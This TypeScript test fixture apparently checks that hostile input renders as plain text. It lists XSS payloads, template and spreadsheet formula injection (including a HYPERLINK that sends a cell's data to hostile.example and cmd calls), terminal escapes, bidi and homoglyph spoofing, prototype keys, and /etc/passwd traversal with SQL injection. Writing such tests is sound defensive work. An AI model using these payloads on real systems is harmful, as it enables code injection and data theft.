/**
 * Text that must come out as the text that it is, in every field of every input. What runs when one of them is taken for
 * markup or a link sets `window.__hit`; what loads something asks hostile.example for it; what makes an element gives it
 * the class `hit`.
 */
export const STRINGS: Readonly<Record<string, string>> = {
  script: '<script class=hit>window.__hit=1</script>',
  'script that ends another': '</script></title></textarea></style>--><script class=hit>window.__hit=2</script>',
  'image with a handler': '"\'><img class=hit src=x onerror=window.__hit=3>',
  'drawing with a handler':
    '<svg class=hit onload=window.__hit=4><animate onbegin=window.__hit=5 attributeName=x></svg>',
  'frame and object':
    '<iframe class=hit srcdoc="<script>parent.__hit=6</script>"></iframe><object class=hit data=//hostile.example></object>',
  'style and base':
    '<style class=hit>*{display:none}</style><base href=//hostile.example/><meta http-equiv=refresh content=0;url=//hostile.example>',
  'attribute break': '" onmouseover="window.__hit=7" autofocus onfocus="window.__hit=8" x="',
  'script address': 'javascript:window.__hit=9//%0Awindow.__hit=9',
  'data address': 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19oaXQ9MTA8L3NjcmlwdD4=',
  'foreign address': '//hostile.example/%2e%2e/?a=b#c\\@hostile.example',
  'link that hides': 'https://advisories.example/"onclick=window.__hit=11//',
  markdown: '[a](javascript:window.__hit=12) ![b](https://hostile.example/p.png) <https://hostile.example> **c** `d`',
  entities: '&lt;b class=hit&gt; &#60;img src=x&#62; &amp;amp; &nbsp;%3Cscript%3E \\u003cscript\\u003e',
  template:
    '{{constructor.constructor("window.__hit=13")()}} \u0024{window.__hit=14} <%= 7*7 %> #{7*7} {{7*7}} %s %n $& $1',
  formula: '=HYPERLINK("https://hostile.example/?"&A1,"open")',
  'formula by plus': "+1+cmd|' /C calc'!A0",
  'formula by minus': "-1+cmd|' /C calc'!A1",
  'formula by at': "@SUM(1+1)*cmd|' /C calc'!A2",
  'formula behind a tab': '\t=1+1',
  'formula behind a line break': '\r\n=1+1,"two","three"',
  'full-width formula': '\uff1d1+1',
  'terminal escapes':
    '\u001b[31mred\u001b[0m \u001b]8;;https://hostile.example\u0007link\u001b]8;;\u0007 \u009b2J\b\b\u0007',
  'turned round': 'safe\u202egnp.exe\u202d \u2066left\u2067right\u2069 \u200frtl',
  'never seen': 'pay\u200bments\u200c\u200d\u2060\ufeff \u00ad\u034f\u3164 \u{e0061}\u{e0062}',
  'no character': 'before\0after',
  'half a pair': 'low \udc00 high \ud800 both turned \udc00\ud800',
  'broken pair at the end': `${'a'.repeat(499)}\u{1f600}`,
  'right to left': 'שלום עולם مرحبا بالعالم \u0627\u0644\u0639\u0631\u0628\u064a\u0629 (1.2.3)',
  'look-alike': 'раураl.соm аdmіn pɑyments ⅼog4j \ud835\udc29\ud835\udc1a\ud835\udc32',
  'a mountain of marks': `z${'\u0301\u0327\u0489\u035c\u20dd'.repeat(200)}`,
  'a very long word': 'Longword'.repeat(1250),
  'a very long line': 'wide words 幅 '.repeat(800),
  emoji: '👩‍👩‍👧‍👦🏳️‍🌈👍🏽 \u{1f1e6}\u{1f1fa} ⚠️',
  __proto: '__proto__',
  constructor: 'constructor',
  hasOwnProperty: 'hasOwnProperty',
  'words of programs': 'undefined',
  'path upwards': '../../../../etc/passwd%00.json?x=1#y;DROP TABLE issue;--',
}
